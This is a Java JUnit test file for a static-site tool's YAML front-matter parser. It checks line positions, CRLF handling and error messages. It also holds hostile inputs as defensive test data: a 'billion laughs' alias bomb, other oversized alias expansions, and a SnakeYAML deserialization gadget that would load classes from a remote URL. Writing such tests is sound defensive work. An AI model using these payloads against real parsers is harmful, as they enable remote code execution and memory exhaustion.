package gloss.load;

import static org.assertj.core.api.Assertions.assertThat;

import gloss.diag.Diagnostics;
import gloss.diag.SourcePos;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.Test;

/** Splitting {@code ---} front matter from the body, and decoding it with file positions. */
class FrontMatterParserTest {
  static final String FILE = "content/articles/a.md";

  final Diagnostics diagnostics = new Diagnostics();

  FrontMatter parse(String text) {
    Optional<FrontMatter> front = FrontMatterParser.parse(text, FILE, diagnostics);
    assertThat(messages()).isEmpty();
    assertThat(front).isPresent();
    return front.get();
  }

  List<String> fails(String text) {
    assertThat(FrontMatterParser.parse(text, FILE, diagnostics)).isEmpty();
    return messages();
  }

  List<String> messages() {
    return diagnostics.sorted().stream().map(Object::toString).toList();
  }

  @Test
  void positionsOfValuesAndListItemsAreFileLinesAndColumns() {
    FrontMatter front =
        parse(
            """
            ---
            title: Talks
            people: [nate-fick, wang-lei]
            places:
              - geneva
              - beijing
            ---
            Body line one.
            Body line two.
            """);
    assertThat(front.values()).containsEntry("title", "Talks");
    assertThat(front.values().get("people")).isEqualTo(List.of("nate-fick", "wang-lei"));
    assertThat(front.positions())
        .containsEntry("title", SourcePos.of(FILE, 2, 8))
        .containsEntry("people[0]", SourcePos.of(FILE, 3, 10))
        .containsEntry("people[1]", SourcePos.of(FILE, 3, 21))
        .containsEntry("places[0]", SourcePos.of(FILE, 5, 5))
        .containsEntry("places[1]", SourcePos.of(FILE, 6, 5));
    assertThat(front.bodyLine()).isEqualTo(8);
    assertThat(front.body()).isEqualTo("Body line one.\nBody line two.");
  }

  @Test
  void keepsKeysInFileOrderAndScalarsAsWritten() {
    FrontMatter front =
        parse(
            """
            ---
            zeta: 1
            date: 2024-01-02
            count: 010
            flag: yes
            none: ~
            nested: {a: [1, 2]}
            ---
            """);
    assertThat(front.values().keySet())
        .containsExactly("zeta", "date", "count", "flag", "none", "nested");
    assertThat(front.values())
        .containsEntry("date", "2024-01-02")
        .containsEntry("count", "010")
        .containsEntry("flag", "yes")
        .containsEntry("none", null)
        .containsEntry("nested", Map.of("a", List.of("1", "2")));
  }

  @Test
  void readsCrlfLineEnds() {
    FrontMatter front = parse("---\r\ntitle: A\r\ndate: 2024-01-02\r\n---\r\nBody.\r\nMore.\r\n");
    assertThat(front.values()).containsEntry("title", "A").containsEntry("date", "2024-01-02");
    assertThat(front.positions()).containsEntry("date", SourcePos.of(FILE, 3, 7));
    assertThat(front.body()).isEqualTo("Body.\nMore.");
    assertThat(front.bodyLine()).isEqualTo(5);
  }

  @Test
  void ignoresAByteOrderMark() {
    FrontMatter front = parse("\uFEFF---\ntitle: A\n---\nBody.\n");
    assertThat(front.values()).containsEntry("title", "A");
    assertThat(front.positions()).containsEntry("title", SourcePos.of(FILE, 2, 8));
  }

  @Test
  void acceptsDotsAsTheClosingLineAndEmptyFrontMatter() {
    assertThat(parse("---\ntitle: A\n...\nBody.").values()).containsEntry("title", "A");
    FrontMatter empty = parse("---\n---\nBody.");
    assertThat(empty.values()).isEmpty();
    assertThat(empty.bodyLine()).isEqualTo(3);
  }

  @Test
  void reportsYamlErrorsAtTheirFileLine() {
    assertThat(fails("---\ntitle: A\ndate: 2024-01-02\nsummary: a: b\n---\n"))
        .containsExactly(
            FILE
                + ":4:11: error: a value that contains ': ' must be in quotes: summary: \"a: b\"\n"
                + "    (YAML parser: mapping values are not allowed here)");
  }

  @Test
  void reportsYamlErrorsAtTheirFileLineInCrlfFiles() {
    assertThat(fails("---\r\ntitle: A\r\nsummary: a: b\r\n---\r\n"))
        .containsExactly(
            FILE
                + ":3:11: error: a value that contains ': ' must be in quotes: summary: \"a: b\"\n"
                + "    (YAML parser: mapping values are not allowed here)");
  }

  @Test
  void reportsMissingAndUnclosedFrontMatter() {
    assertThat(fails("title: A\n"))
        .containsExactly(
            FILE
                + ":1:1: error: missing front matter: the file must start with a line '---',"
                + " then YAML, then '---'");
    Diagnostics fresh = new Diagnostics();
    assertThat(FrontMatterParser.parse("---\ntitle: A\n", FILE, fresh)).isEmpty();
    assertThat(fresh.sorted().stream().map(Object::toString))
        .containsExactly(
            FILE + ":1:1: error: front matter is not closed: add a line '---' after it");
  }

  @Test
  void refusesABillionLaughsAliasBomb() {
    String bomb =
        """
        ---
        a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
        b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
        c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
        d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
        e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
        f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
        g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
        h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
        i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
        ---
        """;
    assertThat(fails(bomb))
        .containsExactly(
            FILE
                + ":2:1: error: front matter uses more than 20 aliases to lists or mappings;"
                + " expanding them could exhaust memory");
  }

  @Test
  void refusesAliasExpansionBeyondTheValueBudgetWithinTheAliasLimit() {
    String hundred = "[" + "x,".repeat(99) + "x]";
    String text =
        "---\na: &a "
            + hundred
            + "\nb: &b ["
            + "*a,".repeat(9)
            + "*a]\nc: ["
            + "*b,".repeat(9)
            + "*b]\n---\n";
    // Reported at the anchor whose aliases take the tree over the limit.
    assertThat(fails(text))
        .containsExactly(
            FILE
                + ":3:4: error: anchor &b of 1011 values is reused 10 times, which makes 11227"
                + " values; front matter may hold at most 10000 values");
  }

  @Test
  void refusesAScalarAnchorReusedThousandsOfTimes() {
    String text =
        "---\ntitle: A\nx: &x " + "a".repeat(40) + "\ny: [" + "*x, ".repeat(8999) + "*x]\n---\n";
    assertThat(fails(text))
        .containsExactly(
            FILE
                + ":3:4: error: anchor &x is reused 9000 times; at most 100 uses of aliases are"
                + " allowed");
  }

  @Test
  void refusesAliasesThatExpandBeyondTheSizeOfAllValues() {
    String text = "---\nx: &x " + "a".repeat(10_000) + "\ny: [" + "*x, ".repeat(49) + "*x]\n---\n";
    assertThat(fails(text))
        .containsExactly(
            FILE
                + ":2:4: error: anchor &x of 10000 characters is reused 50 times, which makes"
                + " 510002 characters; front matter may hold at most 262144 characters");
  }

  @Test
  void refusesValuesThatTogetherExceedTheSizeLimit() {
    String line = "  " + "a".repeat(999) + "\n";
    String text = "---\nx: |\n" + line.repeat(300) + "---\n";
    assertThat(fails(text))
        .containsExactly(
            FILE + ":2:1: error: front matter holds 300000 characters; at most 262144 are allowed");
  }

  @Test
  void refusesControlCharactersWrittenAsEscapesAtTheirValue() {
    assertThat(fails("---\ntitle: \"Bell\\a and \\e[31m\"\n---\n"))
        .containsExactly(
            FILE
                + ":2:8: error: 'title' contains the control character U+0007; remove it (only"
                + " tabs and line breaks may appear in values)");
    Diagnostics fresh = new Diagnostics();
    assertThat(FrontMatterParser.parse("---\ntags: [ok, \"nul\\0\"]\n---\n", FILE, fresh))
        .isEmpty();
    assertThat(fresh.sorted().stream().map(Object::toString))
        .containsExactly(
            FILE
                + ":2:12: error: 'tags' contains the control character U+0000; remove it (only"
                + " tabs and line breaks may appear in values)");
  }

  @Test
  void keepsTabsAndLineBreaksInValues() {
    FrontMatter front = parse("---\nsummary: \"one\\ttwo\\nthree\"\n---\n");
    assertThat(front.values()).containsEntry("summary", "one\ttwo\nthree");
  }

  @Test
  void refusesARecursiveAlias() {
    assertThat(fails("---\ntitle: A\nloop: &l [*l]\n---\n"))
        .containsExactly(FILE + ":3:7: error: anchor &l is used inside its own value");
  }

  @Test
  void refusesDeepNesting() {
    String deep = "---\nx: " + "[".repeat(50) + "]".repeat(50) + "\n---\n";
    assertThat(fails(deep))
        .containsExactly(FILE + ":2:1: error: front matter nests deeper than 20 levels");
    String deepMaps = "---\n" + buildNestedMaps(30) + "---\n";
    Diagnostics fresh = new Diagnostics();
    assertThat(FrontMatterParser.parse(deepMaps, FILE, fresh)).isEmpty();
    assertThat(fresh.sorted().stream().map(Object::toString))
        .singleElement()
        .asString()
        .matches(
            FILE.replace(".", "\\.") + ":\\d+:1: error: front matter nests deeper than 20 levels");
  }

  @Test
  void acceptsNestingWithinTheLimit() {
    FrontMatter front = parse("---\nx: " + "[".repeat(15) + "]".repeat(15) + "\n---\n");
    assertThat(front.values()).containsKey("x");
  }

  @Test
  void refusesTagsThatNameJavaClasses() {
    assertThat(
            fails(
                """
                ---
                x: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid/"]]]]
                ---
                """))
        .containsExactly(
            FILE
                + ":2:4: error: invalid YAML: Global tag is not allowed:"
                + " tag:yaml.org,2002:javax.script.ScriptEngineManager");
  }

  @Test
  void keepsStandardTaggedScalarsAsWrittenText() {
    FrontMatter front = parse("---\nn: !!int 42\nd: !!timestamp 2024-01-02\n---\n");
    assertThat(front.values()).containsEntry("n", "42").containsEntry("d", "2024-01-02");
  }

  @Test
  void rejectsFrontMatterThatIsNotAMapping() {
    assertThat(fails("---\n- a\n- b\n---\n"))
        .containsExactly(
            FILE + ":2:1: error: front matter must be a mapping of 'key: value' lines");
  }

  @Test
  void positionsInSiteYmlStartAtLineOne() {
    Optional<FrontMatter> site =
        FrontMatterParser.parseYaml(
            "title: T\nbase_url: x: y\n", "content/site.yml", 1, diagnostics);
    assertThat(site).isEmpty();
    assertThat(messages())
        .containsExactly(
            "content/site.yml:2:12: error: a value that contains ': ' must be in quotes:"
                + " base_url: \"x: y\"\n"
                + "    (YAML parser: mapping values are not allowed here)");
  }

  static String buildNestedMaps(int depth) {
    StringBuilder yaml = new StringBuilder();
    for (int i = 0; i < depth; i++) {
      yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
    }
    yaml.append("  ".repeat(depth)).append("leaf: 1\n");
    return yaml.toString();
  }
}
